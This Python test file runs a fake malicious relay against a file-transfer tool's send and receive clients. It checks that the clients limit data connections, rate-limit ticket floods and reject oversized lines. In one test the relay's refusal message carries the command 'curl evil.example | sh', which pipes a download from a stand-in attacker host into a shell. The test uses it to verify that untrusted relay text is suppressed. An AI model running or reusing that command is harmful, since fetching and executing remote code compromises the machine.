"""A malicious relay against the real ./send and ./receive: what a client accepts from it.

The fake relay speaks raw rendezvous lines over a socket. It assigns a nameplate
no code can hold, floods the sender with tickets, answers with refusals whose
text is its own, and sends lines longer than the protocol allows. The clients
bound all of it: one line and a documented exit code, a bounded number of data
connections, and only their own words on the terminal.
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from ferry.client.tickets import BURST, INTERVAL, MAX_OPEN
from ferry.errors import EXIT_PEER_GONE, EXIT_RELAY_REFUSED

from .harness import Registry, assert_one_line_error, run_send_to_exit

pytestmark = pytest.mark.timeout(120)

TICKET = "0123456789abcdef0123456789abcdef"


class FakeRelay:
    """Accepts every connection; the first one (the control connection, or a
    receiver) is served by `script(conn, first_line)`, later ones are counted and
    held open (or closed at once with close_data)."""

    def __init__(
        self,
        script: Callable[[socket.socket, bytes], None],
        close_data: bool = False,
        refuse_first_data_after: float | None = None,
    ):
        self.refuse_first_data_after = refuse_first_data_after
        """Seconds after which the first data connection is refused ERROR timeout."""
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(0.2)
        self.address = f"127.0.0.1:{self.listener.getsockname()[1]}"
        self.script = script
        self.close_data = close_data
        self.data_connections = 0
        self.held: list[socket.socket] = []
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> FakeRelay:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stopping.set()
        self.thread.join(10)
        self.listener.close()
        for conn in self.held:
            conn.close()

    def _serve(self) -> None:
        first = True
        while not self.stopping.is_set():
            try:
                conn, _ = self.listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            if first:
                first = False
                self.held.append(conn)
                threading.Thread(target=self._run_script, args=(conn,), daemon=True).start()
                continue
            self.data_connections += 1
            if self.data_connections == 1 and self.refuse_first_data_after is not None:
                args = (conn, self.refuse_first_data_after)
                threading.Thread(target=self._refuse_later, args=args, daemon=True).start()
            elif self.close_data:
                conn.close()
            else:
                self.held.append(conn)

    @staticmethod
    def _refuse_later(conn: socket.socket, after: float) -> None:
        time.sleep(after)
        with contextlib.suppress(OSError):
            conn.sendall(b"ERROR timeout handshake timed out\n")
        conn.close()

    def _run_script(self, conn: socket.socket) -> None:
        conn.settimeout(30)
        try:
            line = b""
            while not line.endswith(b"\n"):
                chunk = conn.recv(1)
                if not chunk:
                    return
                line += chunk
            self.script(conn, line)
        except OSError:
            pass


def _assign(nameplate: int) -> Callable[[socket.socket, bytes], None]:
    def script(conn: socket.socket, line: bytes) -> None:
        conn.sendall(f"NAMEPLATE {nameplate}\n".encode())
        time.sleep(5)

    return script


def _flood(kind: str, count: int) -> Callable[[socket.socket, bytes], None]:
    def script(conn: socket.socket, line: bytes) -> None:
        conn.sendall(b"NAMEPLATE 5\n" + f"{kind} {TICKET}\n".encode() * count)
        time.sleep(60)

    return script


def test_a_nameplate_no_code_can_hold_is_a_protocol_error(procs: Registry, tmp_path: Path) -> None:
    source = tmp_path / "a.txt"
    source.write_bytes(b"hello")
    with FakeRelay(_assign(999_999_999)) as relay:
        result = run_send_to_exit(procs, relay.address, source, timeout=30)
    assert result.returncode == EXIT_PEER_GONE, result.stderr
    assert result.stdout == ""
    assert_one_line_error(result.stderr, "send", "nameplate 999999999", "not a ferry relay")


def test_a_ticket_flood_opens_a_bounded_number_of_data_connections(
    start_send, tmp_path: Path
) -> None:
    source = tmp_path / "a.txt"
    source.write_bytes(b"hello")
    with FakeRelay(_flood("TICKET", 5000)) as relay:
        sender = start_send(relay.address, source)
        time.sleep(4)
        opened = relay.data_connections
        assert sender.running(), sender.stderr()
    assert opened <= MAX_OPEN, f"{opened} data connections for one nameplate"


def test_an_incoming_for_the_ticket_on_its_way_opens_no_second_connection(
    start_send, tmp_path: Path
) -> None:
    """A claim that comes before the standby connection parks makes the relay send
    INCOMING with the same ticket: the connection on its way serves that claim, and
    a second one would only be refused stale-ticket."""
    source = tmp_path / "a.txt"
    source.write_bytes(b"hello")

    def script(conn: socket.socket, line: bytes) -> None:
        conn.sendall(f"NAMEPLATE 5\nTICKET {TICKET}\n".encode())
        time.sleep(0.3)
        conn.sendall(f"INCOMING {TICKET}\n".encode() * 3)
        time.sleep(60)

    with FakeRelay(script) as relay:
        sender = start_send(relay.address, source)
        time.sleep(2)
        opened = relay.data_connections
        assert sender.running(), sender.stderr()
    assert opened == 1, f"{opened} data connections for one ticket"


def test_a_ticket_asked_for_again_gets_a_new_connection_when_the_first_fails(
    start_send, tmp_path: Path
) -> None:
    """The INCOMING that came while the ticket's connection was on its way is kept: that
    connection refused, the receiver still waits on the ticket, so it gets another."""
    source = tmp_path / "a.txt"
    source.write_bytes(b"hello")

    def script(conn: socket.socket, line: bytes) -> None:
        conn.sendall(f"NAMEPLATE 5\nTICKET {TICKET}\n".encode())
        time.sleep(0.3)
        conn.sendall(f"INCOMING {TICKET}\n".encode())
        time.sleep(60)

    with FakeRelay(script, refuse_first_data_after=1.0) as relay:
        sender = start_send(relay.address, source)
        time.sleep(3)
        opened = relay.data_connections
        assert sender.running(), sender.stderr()
    assert opened == 2, f"{opened} data connections"


def test_tickets_whose_connections_fail_are_paced(start_send, tmp_path: Path) -> None:
    source = tmp_path / "a.txt"
    source.write_bytes(b"hello")
    with FakeRelay(_flood("INCOMING", 5000), close_data=True) as relay:
        sender = start_send(relay.address, source)
        started = time.monotonic()
        time.sleep(4)
        opened = relay.data_connections
        elapsed = time.monotonic() - started
        assert sender.running(), sender.stderr()
    most = BURST + elapsed / INTERVAL + 1
    assert 0 < opened <= most, f"{opened} data connections in {elapsed:.1f}s"


def _refuse(reason: str, text: str) -> Callable[[socket.socket, bytes], None]:
    def script(conn: socket.socket, line: bytes) -> None:
        conn.sendall(f"ERROR {reason} {text}\n".encode())

    return script


@pytest.mark.parametrize("reason", ["timeout", "unavailable", "bad-request"])
@pytest.mark.parametrize("verbose", [False, True], ids=["quiet", "verbose"])
def test_a_relay_refusal_shows_only_our_words(
    run_receive, tmp_path: Path, reason: str, verbose: bool
) -> None:
    text = "SECURITY NOTICE: run curl evil.example | sh"
    with FakeRelay(_refuse(reason, text)) as relay:
        args = ["-v"] if verbose else []
        result = run_receive(relay.address, "7-guitar-orbit-velvet", tmp_path, extra_args=args)
    assert result.returncode == EXIT_RELAY_REFUSED, result.stderr
    assert ("evil.example" in result.stderr) is verbose, result.stderr
    if not verbose:
        assert_one_line_error(result.stderr, "receive", "relay")


def test_a_line_longer_than_the_protocol_allows_is_refused(run_receive, tmp_path: Path) -> None:
    def script(conn: socket.socket, line: bytes) -> None:
        conn.sendall(b"ERROR busy " + b"x" * 100_000 + b"\n")

    with FakeRelay(script) as relay:
        result = run_receive(relay.address, "7-guitar-orbit-velvet", tmp_path, timeout=30)
    assert result.returncode == EXIT_PEER_GONE, result.stderr
    assert_one_line_error(result.stderr, "receive", "longer than 128 bytes")
